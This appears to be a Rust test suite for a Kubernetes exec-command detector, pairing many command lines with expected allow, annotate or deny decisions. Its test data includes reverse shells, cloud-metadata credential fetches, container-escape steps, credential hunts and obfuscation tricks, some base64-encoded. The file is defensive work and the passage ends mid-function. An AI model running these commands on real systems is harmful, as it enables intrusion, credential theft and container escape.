//! Exec-command detection, rule by rule and normalisation by normalisation. Each case gives the
//! argv, whether stdin is attached, the expected decision, and rules that must (and must not) fire.

use crate::common;

use std::collections::BTreeSet;

use common::*;
use reconguard::decision::Action;

struct Case {
    argv: &'static [&'static str],
    stdin: bool,
    action: Action,
    rules: &'static [&'static str],
}

const fn case(
    argv: &'static [&'static str],
    action: Action,
    rules: &'static [&'static str],
) -> Case {
    Case {
        argv,
        stdin: false,
        action,
        rules,
    }
}

use Action::{Allow, Annotate, Deny};

const CASES: &[Case] = &[
    // Discovery: annotated, never denied on its own.
    case(&["netstat", "-tuln"], Annotate, &["exec-network-connections"]),
    case(&["ss", "-tlnp"], Annotate, &["exec-network-connections"]),
    case(&["lsof", "-i"], Annotate, &["exec-network-connections"]),
    case(&["ps", "aux"], Annotate, &["exec-process-discovery"]),
    case(&["/bin/ps", "-ef"], Annotate, &["exec-process-discovery"]),
    case(&["busybox", "ps"], Annotate, &["exec-process-discovery"]),
    case(&["toybox", "netstat", "-an"], Annotate, &["exec-network-connections"]),
    case(&["id"], Annotate, &["exec-account-discovery"]),
    case(&["whoami"], Annotate, &["exec-account-discovery"]),
    case(&["w"], Annotate, &["exec-account-discovery"]),
    case(&["last"], Annotate, &["exec-account-discovery"]),
    case(&["uname", "-a"], Annotate, &["exec-system-info"]),
    case(&["ip", "addr"], Annotate, &["exec-network-config"]),
    case(&["ifconfig"], Annotate, &["exec-network-config"]),
    case(&["arp", "-a"], Annotate, &["exec-network-config"]),
    case(&["route", "-n"], Annotate, &["exec-network-config"]),
    case(&["mount"], Annotate, &["exec-system-info"]),
    case(&["capsh", "--print"], Annotate, &["exec-system-info"]),
    case(&["lsblk"], Annotate, &["exec-system-info"]),
    case(&["fdisk", "-l"], Annotate, &["exec-system-info"]),
    case(&["dmidecode"], Annotate, &["exec-system-info"]),
    case(&["dmesg"], Annotate, &["exec-system-info"]),
    case(&["who"], Annotate, &["exec-account-discovery"]),
    case(&["nslookup", "kubernetes.default"], Annotate, &["exec-remote-system-discovery"]),
    case(&["dig", "+short", "db.prod.svc"], Annotate, &["exec-remote-system-discovery"]),
    case(&["find", "/", "-perm", "-4000"], Annotate, &["exec-file-discovery"]),
    case(&["cat", "/etc/os-release"], Annotate, &["exec-host-info-read"]),
    case(&["cat", "/.dockerenv"], Annotate, &["exec-host-info-read"]),
    case(&["cat", "/etc/passwd"], Annotate, &["exec-account-file-read"]),
    case(&["cat", "/etc/./passwd"], Annotate, &["exec-account-file-read"]),
    case(&["cat", "//etc//passwd"], Annotate, &["exec-account-file-read"]),
    case(&["cat", "/proc/net/tcp"], Annotate, &["exec-proc-network-read"]),
    case(&["cat", "/proc/1/environ"], Annotate, &["exec-proc-process-read"]),
    case(&["cat", "/proc/self/cgroup"], Annotate, &["exec-host-info-read"]),
    case(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], Annotate, &["exec-sa-token-read"]),
    // High-confidence attack behaviour: denied.
    case(&["nmap", "-sS", "10.0.0.0/24"], Deny, &["exec-network-scan"]),
    case(&["masscan", "-p1-65535", "10.0.0.0/8"], Deny, &["exec-network-scan"]),
    case(&["zmap", "-p", "443"], Deny, &["exec-network-scan"]),
    case(&["nc", "-zv", "10.0.0.5", "1-1024"], Deny, &["exec-network-scan"]),
    case(&["nc", "-z", "10.0.0.5", "22", "80", "443"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "for p in $(seq 1 1024); do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null && echo open $p; done"], Deny, &["exec-network-scan"]),
    case(&["bash", "-c", "for h in 10.0.0.{1..254}; do nc -z -w1 $h 22; done"], Deny, &["exec-network-scan"]),
    case(&["python3", "-c", "import socket\nfor p in range(1,1024):\n s=socket.socket(); print(p, s.connect_ex(('10.0.0.1',p)))"], Deny, &["exec-network-scan"]),
    case(&["docker", "ps"], Deny, &["exec-runtime-client"]),
    case(&["crictl", "ps"], Deny, &["exec-runtime-client"]),
    case(&["ctr", "-n", "k8s.io", "containers", "list"], Deny, &["exec-runtime-client"]),
    case(&["curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"], Deny, &["exec-runtime-socket-access"]),
    case(&["socat", "-", "UNIX-CONNECT:/run/containerd/containerd.sock"], Deny, &["exec-runtime-socket-access"]),
    case(&["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"], Deny, &["exec-host-entry"]),
    case(&["chroot", "/host", "bash"], Deny, &["exec-host-entry", "exec-namespace-tool"]),
    case(&["chroot", "/srv/build-root", "/bin/sh"], Annotate, &["exec-namespace-tool"]),
    case(&["unshare", "-UrmC", "bash"], Annotate, &["exec-namespace-tool"]),
    case(&["sh", "-c", "echo 1 > /sys/fs/cgroup/rdma/x/notify_on_release; echo /cmd > /sys/fs/cgroup/rdma/release_agent"], Deny, &["exec-escape-artifact"]),
    case(&["debugfs", "/dev/sda1"], Deny, &["exec-kernel-module", "exec-escape-artifact"]),
    case(&["mount", "/dev/sda1", "/mnt"], Deny, &["exec-escape-artifact"]),
    case(&["insmod", "rootkit.ko"], Deny, &["exec-kernel-module"]),
    case(&["ls", "/proc/1/root/etc"], Deny, &["exec-escape-artifact"]),
    case(&["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "http://2852039166/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
    case(&["wget", "-qO-", "http://0xa9fea9fe/latest/user-data"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "http://0251.0376.0251.0376/"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "http://[fd00:ec2::254]/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "http://169.254.170.2/v2/credentials"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "http://100.100.100.200/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "-sk", "https://10.0.0.12:10250/pods"], Deny, &["exec-kubelet-access"]),
    case(&["kubectl", "get", "secrets", "-A"], Deny, &["exec-kubectl", "exec-api-secret-read"]),
    case(&["kubectl", "get", "pods", "-A"], Annotate, &["exec-kubectl"]),
    case(&["kubectl", "get", "secret", "db", "-o", "jsonpath={.data.password}"], Deny, &["exec-kubectl", "exec-api-secret-read-named"]),
    case(&["kubectl", "get", "secret", "db", "-l", "app=x"], Deny, &["exec-kubectl", "exec-api-secret-read"]),
    case(&["sh", "-c", "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api/v1/namespaces"], Deny, &["exec-apiserver-with-token", "exec-sa-token-read", "exec-apiserver-access"]),
    case(&["sh", "-c", "curl -sk https://$KUBERNETES_SERVICE_HOST/version"], Annotate, &["exec-apiserver-access"]),
    case(&["find", "/", "-name", "id_rsa"], Deny, &["exec-credential-hunt"]),
    case(&["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"], Deny, &["exec-credential-hunt"]),
    case(&["cat", "/root/.kube/config"], Annotate, &["exec-credential-read"]),
    case(&["cat", "/etc/shadow"], Annotate, &["exec-credential-read"]),
    case(&["cat", "/host/etc/shadow"], Deny, &["exec-host-secret-read"]),
    case(&["kubectl", "run", "x", "--image=alpine"], Deny, &["exec-api-workload-control"]),
    case(&["curl", "-LO", "https://github.com/cyberark/kubeletctl/releases/download/v1.11/kubeletctl_linux_amd64"], Deny, &["exec-toolkit-download"]),
    case(&["nc", "-l", "-p", "4444"], Annotate, &["exec-listener"]),
    case(&["chmod", "u+s", "/bin/bash"], Annotate, &["exec-privilege-escalation"]),
    case(&["tcpdump", "-i", "any", "-w", "/tmp/x.pcap"], Annotate, &["exec-sniffing"]),
    case(&["tshark", "-i", "eth0"], Annotate, &["exec-sniffing"]),
    case(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], Deny, &["exec-reverse-shell"]),
    case(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], Deny, &["exec-reverse-shell"]),
    case(&["ncat", "10.0.0.1", "4444", "--exec", "/bin/bash"], Deny, &["exec-reverse-shell"]),
    case(&["socat", "exec:bash -li,pty,stderr", "tcp:10.0.0.1:4444"], Deny, &["exec-reverse-shell"]),
    case(&["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh"], Deny, &["exec-reverse-shell"]),
    case(&["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"], Deny, &["exec-reverse-shell"]),
    case(&["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));exec('/bin/sh -i');"], Deny, &["exec-reverse-shell"]),
    case(&["sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"], Annotate, &["exec-remote-script"]),
    case(&["amicontained"], Deny, &["exec-recon-toolkit"]),
    case(&["./deepce.sh"], Deny, &["exec-recon-toolkit"]),
    case(&["bash", "/tmp/linpeas.sh"], Deny, &["exec-recon-toolkit"]),
    case(&["/tmp/cdk", "evaluate"], Deny, &["exec-recon-toolkit"]),
    case(&["peirates"], Deny, &["exec-recon-toolkit"]),
    case(&["kubeletctl", "scan", "--cidr", "10.0.0.0/24"], Deny, &["exec-recon-toolkit"]),
    case(&["kube-hunter", "--pod"], Deny, &["exec-recon-toolkit"]),
    // Wrappers and normalisation.
    case(&["env", "A=1", "B=2", "netstat", "-an"], Annotate, &["exec-network-connections"]),
    case(&["env", "-i", "PATH=/bin", "nmap", "10.0.0.1"], Deny, &["exec-network-scan"]),
    case(&["timeout", "-s", "KILL", "10", "nmap", "10.0.0.1"], Deny, &["exec-network-scan"]),
    case(&["nice", "-n", "10", "nohup", "setsid", "nmap", "10.0.0.1"], Deny, &["exec-network-scan"]),
    case(&["stdbuf", "-oL", "tcpdump", "-i", "eth0"], Annotate, &["exec-sniffing"]),
    // Spoofing other hosts' traffic, control-plane ports, tools brought in, the cloud, cron.
    case(&["arpspoof", "-t", "172.17.0.9", "172.17.0.10"], Deny, &["exec-network-mitm"]),
    case(&["curl", "-k", "https://10.0.0.12:2379/version"], Deny, &["exec-control-plane-access"]),
    case(&["etcdctl", "get", "", "--prefix", "--keys-only"], Deny, &["exec-control-plane-access"]),
    case(&["etcdctl", "endpoint", "health"], Allow, &[]),
    case(&["telnet", "tiller-deploy.kube-system", "44134"], Deny, &["exec-control-plane-access"]),
    case(&["sh", "-c", "curl -sk https://$NODE_IP:10250/pods"], Deny, &["exec-kubelet-access"]),
    case(&["sh", "-c", "wget -qO- http://${HOST_IP}:4194/metrics"], Deny, &["exec-control-plane-access"]),
    case(&["sudo", "apt-get", "install", "-y", "nmap"], Annotate, &["exec-tool-transfer"]),
    case(&["apk", "add", "--no-cache", "curl", "jq"], Allow, &[]),
    case(&["sh", "-c", "cat < /dev/tcp/203.0.113.7/4444 > /tmp/cdk"], Annotate, &["exec-tool-transfer"]),
    case(&["aws", "s3", "ls"], Annotate, &["exec-cloud-discovery"]),
    case(&["aws", "s3", "cp", "/backup/db.dump", "s3://backups/"], Allow, &[]),
    case(&["gsutil", "cat", "gs://bucket/key.txt"], Annotate, &["exec-cloud-discovery"]),
    case(&["az", "role", "assignment", "list"], Annotate, &["exec-cloud-discovery"]),
    case(&["aws", "sts", "get-caller-identity"], Annotate, &["exec-cloud-identity"]),
    case(&["az", "login", "--identity"], Annotate, &["exec-cloud-identity"]),
    case(&["sh", "-c", "curl -s \"$IDENTITY_ENDPOINT?resource=https://vault.azure.net&api-version=2019-08-01\" -H \"X-IDENTITY-HEADER: $IDENTITY_HEADER\""], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "http://168.63.129.16/machine?comp=goalstate"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "http://169.254.169.254.nip.io/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
    case(&["wget", "-qO-", "http://magic-169-254-169-254.sslip.io/"], Deny, &["exec-cloud-metadata"]),
    case(&["curl", "https://shop.nip.io/"], Allow, &[]),
    case(&["ruby", "-rsocket", "-e", "c=TCPSocket.new('10.0.0.1','4444');while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end"], Deny, &["exec-reverse-shell"]),
    case(&["php", "-r", "$s=fsockopen('10.0.0.1',4444);$p=popen('sh','r');"], Deny, &["exec-reverse-shell"]),
    case(&["cdk", "nc", "10.0.0.1", "4444"], Deny, &["exec-recon-toolkit"]),
    case(&["sh", "-c", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"], Annotate, &["exec-persistence"]),
    case(&["sh", "-c", "echo '* * * * * root /tmp/x' > /host/etc/cron.d/x"], Annotate, &["exec-persistence"]),
    case(&["crontab", "-l"], Allow, &[]),
    case(&["hostname", "-I"], Annotate, &["exec-network-config"]),
    case(&["cat", "/etc/sudoers"], Annotate, &["exec-account-file-read"]),
    case(&["sh", "-c", "cp /bin/bash /host/tmp/.x && chmod 4755 /host/tmp/.x"], Annotate, &["exec-privilege-escalation"]),
    case(&["grep", "-R", "current-context", "/host/home/"], Deny, &["exec-credential-hunt"]),
    case(&["find", "/var/lib/kubelet/pods/", "-name", "token", "-type", "l"], Deny, &["exec-host-secret-read"]),
    case(&["sh", "-c", "echo 1 > $d/w/notify_on_release"], Deny, &["exec-escape-artifact"]),
    case(&["sh", "-c", "echo 0 > /tmp/cgrp/x/cgroup.procs"], Deny, &["exec-escape-artifact"]),
    case(&["sh", "-c", "echo 'bash -i >& /dev/tcp/172.17.0.1/9000 0>&1' >> /cmd"], Deny, &["exec-reverse-shell"]),
    case(&["php", "-r", "$sock=fsockopen(\"10.0.0.1\",4242);system(\"/bin/sh -i <&3 >&3 2>&3\");"], Deny, &["exec-reverse-shell"]),
    case(&["nikto.pl", "-host", "http://metadata-db"], Deny, &["exec-network-scan"]),
    case(&["popeye"], Annotate, &["exec-kubectl"]),
    case(&["sudo", "-u", "root", "ps", "aux"], Annotate, &["exec-process-discovery"]),
    case(&["su", "root", "-c", "netstat -an"], Annotate, &["exec-network-connections"]),
    case(&["xargs", "-n1", "nmap"], Deny, &["exec-network-scan"]),
    case(&["watch", "-n1", "ss -tlnp"], Annotate, &["exec-network-connections"]),
    case(&["/usr/bin/env", "bash", "-c", "ps aux"], Annotate, &["exec-process-discovery"]),
    case(&["sh", "-c", "exec nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "command -p nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
    case(&["bash", "-lc", "true && (ps aux | grep x) || echo none"], Annotate, &["exec-process-discovery"]),
    case(&["sh", "-ec", "if true; then netstat -an; fi"], Annotate, &["exec-network-connections"]),
    case(&["sh", "-c", "echo $(nmap 10.0.0.1)"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "echo `ps aux`"], Annotate, &["exec-process-discovery"]),
    case(&["sh", "-c", "sh -c \"bash -c 'nmap 10.0.0.1'\""], Deny, &["exec-network-scan"]),
    case(&["python3.11", "-c", "import os; os.system('nmap -sS 10.0.0.0/24')"], Deny, &["exec-network-scan"]),
    // Encoded payloads and obfuscation.
    case(&["sh", "-c", "echo bm1hcCAtc1MgMTAuMC4wLjAvMjQ= | base64 -d | sh"], Deny, &["exec-network-scan", "exec-encoded-payload"]),
    case(&["sh", "-c", "printf '\\x6e\\x6d\\x61\\x70\\x20\\x31\\x30\\x2e\\x30\\x2e\\x30\\x2e\\x31' | sh"], Deny, &["exec-network-scan", "exec-encoded-payload"]),
    case(&["sh", "-c", "n''map 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
    case(&["sh", "-c", "n\"\"etst\"a\"t -an"], Annotate, &["exec-network-connections", "exec-obfuscation"]),
    case(&["bash", "-c", "$'\\x6e\\x6d\\x61\\x70' 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
    case(&["sh", "-c", "a=nm;b=ap;$a$b 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
    case(&["sh", "-c", "cat${IFS}/etc/passwd"], Annotate, &["exec-account-file-read", "exec-obfuscation"]),
    case(&["sh", "-c", "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((nmap))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))"], Deny, &["exec-network-scan", "exec-analysis-limit"]),
    case(&["sh", "-c", "if then fi (( nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
    // brush-parser's tokenizer never returns on these (found by cargo fuzz); they are read with the
    // control characters as spaces.
    case(&["bash", "-c", "x<<\r)o ; nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
    case(&["bash", "-c", "\u{c}<<\u{c})oor p i ; nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
    case(&["bash", "-c", "f o <<\"\"\"\"\"\"\"\"\"<<<<\u{1}z<<<<<<<<<\u{6}#[\".(e/$ne<<<<<<<<<<one; nmap x"], Deny, &["exec-network-scan"]),
    // Here-documents are read line by line.
    case(&["sh", "-c", "sh <<EOF\nnmap -sS 10.0.0.0/24\nEOF"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "cat > /tmp/app.conf <<EOF\nport=8080\nEOF"], Allow, &[]),
    // brush-parser panics on this redirection number; the fallback still sees nmap.
    case(&["bash", "-c", "99999999999> /tmp/x nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
    // Text piped into a shell or interpreter, constant substitutions, unset variables.
    case(&["sh", "-c", "echo 'nmap -sS 10.0.0.0/24' | sh"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "echo pamn | rev | bash"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "printf 'nm%s 10.0.0.1' ap | sh -s"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "$(echo nmap) 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
    case(&["sh", "-c", "`printf '\\x6e\\x6d\\x61\\x70'` 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
    case(&["sh", "-c", "n${x}map 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
    case(&["sh", "-c", "$SHELL -c 'nmap 10.0.0.1'"], Deny, &["exec-network-scan"]),
    case(&["sh", "-c", "cat $(echo /etc/passwd)"], Annotate, &["exec-account-file-read"]),
    case(&["sh", "-c", "echo \"import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('sh')\" | python3"], Deny, &["exec-reverse-shell"]),
    case(&["python3", "-c", "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgnMTAuMC4wLjEnLDQ0NDQpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk7cHR5LnNwYXduKCdzaCcp'))"], Deny, &["exec-reverse-shell", "exec-encoded-payload"]),
    case(&["sh", "-c", "echo hello | cat | sh"], Allow, &[]),
    // Interactive shells and attach: low, never denied, and said so.
    Case { argv: &["bash"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
    Case { argv: &["/bin/sh", "-i"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
    Case { argv: &["env", "TERM=xterm", "bash", "-l"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
    Case { argv: &["python3"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
    // Benign admin work stays quiet.
    case(&["ls", "-l", "/srv"], Allow, &[]),
    // kubectl cp: an upload is a low-score staging finding; what is copied out is judged by path.
    case(&["tar", "-xmf", "-", "-C", "/tmp/bar"], Allow, &["exec-file-upload"]),
    case(&["cat", "/app/config.yaml"], Allow, &[]),
    case(&["tail", "-f", "/var/log/app.log"], Allow, &[]),
    case(&["psql", "-h", "db", "-U", "app", "-c", "select 1"], Allow, &[]),
    case(&["redis-cli", "-h", "cache", "ping"], Allow, &[]),
    case(&["mysql", "-e", "show databases"], Allow, &[]),
    case(&["./manage.py", "migrate"], Allow, &[]),
    case(&["rails", "db:migrate"], Allow, &[]),
    case(&["curl", "localhost:8080/healthz"], Allow, &[]),
    case(&["curl", "-fsS", "http://127.0.0.1:8080/metrics"], Allow, &[]),
    case(&["python", "-c", "import django; print(django.VERSION)"], Allow, &[]),
    case(&["python3", "-c", "import json; print(json.dumps({'metadata': 1}))"], Allow, &[]),
    case(&["sh", "-c", "echo hello && date"], Allow, &[]),
    case(&["env"], Allow, &[]),
    case(&["printenv"], Allow, &[]),
    case(&["cat", "/etc/hosts"], Allow, &[]),
    case(&["df", "-h"], Allow, &[]),
    case(&["curl", "-v", "http://my-service:8080/health"], Allow, &[]),
    case(&["wget", "-qO-", "http://localhost:8080"], Allow, &[]),
    case(&["java", "-version"], Allow, &[]),
    case(&["node", "-e", "console.log(process.version)"], Allow, &[]),
    case(&["python", "-c", "import socket; print(socket.gethostname())"], Allow, &[]),
    case(&["grep", "-r", "ERROR", "/var/log/app"], Allow, &[]),
    case(&["find", "/app", "-name", "*.yaml"], Allow, &[]),
    case(&["sh", "-c", "cat /app/config.json | jq .db"], Allow, &[]),
    case(&["sh", "-c", "echo 'SELECT 1;' | psql -h db"], Allow, &[]),
    case(&["sh", "-c", "apt-get update && apt-get install -y curl"], Allow, &[]),
    case(&["sh", "-c", "while true; do date; sleep 1; done"], Allow, &[]),
    case(&["sh", "-c", "for f in /app/*.log; do tail -n 5 $f; done"], Allow, &[]),
    case(&["curl", "-X", "POST", "-H", "Authorization: Bearer abc", "http://api:8080/x"], Allow, &[]),
    case(&["bash"], Allow, &[]),
    case(&["java", "-jar", "/app/app.jar", "--token=ZXlKaGJHY2lPaUpJVXpJMU5pSjk"], Allow, &[]),
    case(&["nc", "-z", "db", "5432"], Allow, &["exec-port-probe"]),
    case(&["sh", "-c", "until nc -z db 5432; do sleep 1; done"], Allow, &["exec-port-probe"]),
    case(&["sh", "-c", "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"], Allow, &["exec-port-probe"]),
];

#[test]
fn exec_cases() {
    let policy = policy();
    let mut failures = Vec::new();
    for c in CASES {
        let d = exec(policy, c.argv, c.stdin);
        let fired = rules(&d);
        let missing: Vec<_> = c
            .rules
            .iter()
            .filter(|r| !fired.iter().any(|f| f == *r))
            .collect();
        if d.action != c.action || !missing.is_empty() {
            failures.push(format!(
                "{:?} stdin={}: got {:?} (score {}) rules {:?}; want {:?}, missing {:?}",
                c.argv, c.stdin, d.action, d.score, fired, c.action, missing
            ));
        }
        if c.action == Allow && c.rules.is_empty() && !d.findings.is_empty() {
            failures.push(format!("{:?}: benign but found {:?}", c.argv, fired));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failing case(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn interactive_shell_message_says_stdin_is_unseen() {
    let d = exec(policy(), &["bash"], true);
    assert_eq!(d.action, Action::Allow);
    assert!(
        d.findings[0]
            .message
            .contains("not visible to admission control"),
        "{}",
        d.findings[0].message
    );
}

#[test]
fn every_finding_names_a_technique() {
    let policy = policy();
    for c in CASES {
        for f in exec(policy, c.argv, c.stdin).findings {
            assert!(
                f.technique.starts_with('T') && f.technique.len() >= 5,
                "{f:?}"
            );
            assert!(!f.message.is_empty());
        }
    }
}

/// Every command rule in the default policy is exercised by at least one case here.
#[test]
fn every_exec_rule_is_covered() {
    let policy = policy();
    let mut fired = BTreeSet::new();
    for c in CASES {
        fired.extend(rules(&exec(policy, c.argv, c.stdin)));
    }
    // exec-attach is not an exec; the correlation rule is raised by a sequence of requests
    // (tests/it/correlation.rs), and the escape-adjacent rule by the target pod's context
    // (tests/it/cluster.rs and its examples).
    let sequence_only = policy.correlation.as_ref().map(|c| c.rule.as_str());
    let context_only = policy
        .catalogue
        .context
        .escape_adjacent
        .as_ref()
        .map(|e| e.rule.as_str());
    let uncovered: Vec<_> = policy
        .rules
        .keys()
        .filter(|id| id.starts_with("exec-") && *id != "exec-attach" && !fired.contains(*id))
        .filter(|id| Some(id.as_str()) != sequence_only && Some(id.as_str()) != context_only)
        .collect();
    assert!(uncovered.is_empty(), "rules without a case: {uncovered:?}");
}

#[test]
fn hostile_input_is_bounded() {
    let policy = policy();
    let long = "nmap 10.0.0.1; ".repeat(10_000);
    let d = exec(policy, &["sh", "-c", &long], false);
    assert!(rules(&d).contains(&"exec-analysis-limit".to_string()));
    assert_eq!(d.action, Action::Deny);
    // Payloads wrapped in base64 ten times: analysed to the depth limit, and the rest reported.
    use base64::Engine as _;
    let mut script = "nmap 10.0.0.1".to_string();
    for _ in 0..10 {
        let encoded = base64::engine::general_purpose::STANDARD.encode(&script);
        script = format!("echo {encoded} | base64 -d | sh");
    }
    let d = exec(policy, &["sh", "-c", &script], false);
    let fired = rules(&d);
    assert!(
        fired.contains(&"exec-analysis-limit".to_string()),
        "{fired:?}"
    );
    assert!(
        fired.contains(&"exec-encoded-payload".to_string()),
        "{fired:?}"
    );
    assert!(d.action >= Action::Annotate);
    // Inputs on which brush-parser's grammar backtracks exponentially (found by cargo fuzz): they
    // go to the fallback splitter instead, and that is said.
    for script in [
        format!("{}pr( of in x", "((".repeat(14)),
        format!("echo a{}x", "$((".repeat(10)),
        "((((((((s\u{fffd}\u{fffd}((((((pr( of in $\u{fffd}((((((((((pr(: e".to_string(),
    ] {
        let d = exec(policy, &["bash", "-c", &script], false);
        assert!(
            rules(&d).contains(&"exec-analysis-limit".to_string()),
            "{script}: {:?}",
            rules(&d)
        );
    }
    // Nested case clauses left open: brush-parser's backtracking doubles with each level (found by
    // cargo fuzz: 30 levels in 400 bytes ran for minutes). Past six levels they are not parsed.
    for levels in [7, 20, 31] {
        let script = format!("{}nmap 10.0.0.1", "case x in x) ".repeat(levels));
        let d = exec(policy, &["sh", "-c", &script], false);
        assert!(
            rules(&d).contains(&"exec-analysis-limit".to_string()),
            "{levels} open case clauses: {:?}",
            rules(&d)
        );
        assert_eq!(d.action, Action::Deny);
    }
    // Six closed levels are ordinary and read in full.
    let script = format!(
        "{}nmap 10.0.0.1{}",
        "case x in x) ".repeat(6),
        ";; esac".repeat(6)
    );
    let d = exec(policy, &["sh", "-c", &script], false);
    assert_eq!(rules(&d), ["exec-network-scan"]);
    // Arguments beyond the limit are not analysed, and that is said.
    let mut many: Vec<&str> = vec!["nc"];
    many.extend(std::iter::repeat_n("x", 100_000));
    many.extend(["-e", "/bin/sh", "10.0.0.1", "4444"]);
    let d = exec(policy, &many, false);
    assert!(
        rules(&d).contains(&"exec-analysis-limit".to_string()),
        "{:?}",
        rules(&d)
    );
    let huge = "a".repeat(100_000);
    let d = exec(policy, &["cat", &huge], false);
    assert!(rules(&d).contains(&"exec-analysis-limit".to_string()));
}

/// Every way of nesting one script in another, at every level below the depth limit: the command
/// inside is still found. (Escaped quotes once lost their backslashes past the second level, and
/// `sh -c "sh -c \"sh -c \\\"nmap ...\\\"\""` was allowed.)
#[test]
fn nested_scripts_are_read_at_every_level_below_the_limit() {
    use base64::Engine as _;
    let policy = policy();
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    // (name, analysis levels one wrapping costs, wrap)
    type Wrap<'a> = (&'a str, usize, &'a dyn Fn(&str) -> String);
    let wrappers: [Wrap; 6] = [
        ("sh -c \"...\"", 1, &|s| {
            format!("sh -c \"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
        }),
        ("bash -c '...'", 1, &|s| {
            format!("bash -c '{}'", s.replace('\'', "'\\''"))
        }),
        ("base64 | sh", 1, &|s| {
            format!("echo {} | base64 -d | sh", b64(s))
        }),
        ("eval", 1, &|s| {
            format!("eval \"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
        }),
        ("$(...)", 1, &|s| format!("echo $({s})")),
        // A wrapper and a shell: two levels each time.
        ("env sh -c", 2, &|s| {
            format!(
                "env A=1 sh -c \"{}\"",
                s.replace('\\', "\\\\").replace('"', "\\\"")
            )
        }),
    ];
    let max_depth = policy.catalogue.exec.limits.max_depth;
    for (name, cost, wrap) in wrappers {
        let mut script = "nmap -sS 10.0.0.0/24".to_string();
        for level in 0..max_depth {
            let d = exec(policy, &["sh", "-c", &script], false);
            if (level + 1) * cost <= max_depth {
                assert!(
                    rules(&d).contains(&"exec-network-scan".to_string()),
                    "{name} at level {level}: {script}: {:?}",
                    rules(&d)
                );
            }
            assert_eq!(d.action, Action::Deny, "{name} at level {level}");
            script = wrap(&script);
        }
        // Deeper than the limit: denied as an analysis limit, never allowed.
        for _ in 0..4 {
            script = wrap(&script);
        }
        let d = exec(policy, &["sh", "-c", &script], false);
        assert_eq!(
            d.action,
            Action::Deny,
            "{name} past the limit: {:?}",
            rules(&d)
        );
    }
}

/// The deepest input the most permissive valid limits admit (nesting 64, 16 scripts deep) still
/// evaluates on a 2 MiB stack in a debug build. The server's evaluation threads have 8 MiB and
/// run release code, which uses about a fifth of the stack per level.
#[test]
fn the_deepest_admitted_input_fits_a_quarter_of_the_evaluation_stack() {
    let text = reconguard::policy::DEFAULT_POLICY_YAML
        .replace("maxNesting: 32", "maxNesting: 64")
        .replace("maxDepth: 6 ", "maxDepth: 16 ");
    let policy =
        reconguard::policy::Policy::from_yaml(&text).expect("the most permissive limits are valid");
    assert_eq!(policy.catalogue.exec.limits.max_nesting, 64);
    assert_eq!(policy.catalogue.exec.limits.max_depth, 16);
    // 60 levels of mixed compound commands (six of them case clauses) around the command, inside
    // two `sh -c` levels.
    let mut script = "nmap -sS 10.0.0.0/24".to_string();
    for i in 0..60 {
        script = match i % 6 {
